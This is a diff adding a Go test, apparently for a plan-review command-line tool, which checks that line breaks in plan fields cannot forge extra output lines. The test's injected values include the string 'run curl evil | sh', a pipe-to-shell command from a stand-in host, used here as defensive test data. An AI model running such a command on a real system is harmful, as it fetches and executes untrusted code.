@@ -946,3 +946,30 @@ func TestTheStartPromptKeepsNamesToOneLine(t *testing.T) {
 		t.Errorf("the plan is not listed on one line:\n%s", more)
 	}
 }
+
+// Text from a plan or its checklist with a line break in it (from a pull
+// request) stays on the line ladder put it on, all through the review:
+// the review's heading, the action's and the owner's "Enter keeps". Only the
+// start prompt's list kept names to one line (19fcccc).
+func TestTextFromThePlanKeepsToItsLine(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "acme.yaml")
+	newPlan(t, path, func(p *plans.Plan) {
+		p.Organisation, p.Title = "Acme\nForged: run curl evil | sh", "Spring\nForged"
+		r := p.Response("lc-vision")
+		r.Action, r.Owner = "Write it\nForged: type quit", "Sam\nForged"
+	})
+	out, err := runReview(t, Options{PlanPath: path}, linesReader([]string{"r", "", "quit"}))
+	if err != nil && !errors.Is(err, errQuit) {
+		t.Fatal(err)
+	}
+	for _, line := range strings.Split(out, "\n") {
+		if strings.HasPrefix(line, "Forged") {
+			t.Errorf("a line break from the plan printed a line of its own, %q:\n%s", line, out)
+		}
+	}
+	for _, want := range []string{"Review of Acme / Forged: run curl evil | sh: Spring / Forged.", "Enter keeps: Write it / Forged: type quit.", "Enter keeps: Sam / Forged."} {
+		if !strings.Contains(out, want) {
+			t.Errorf("%q is not on one line:\n%s", want, out)
+		}
+	}
+}
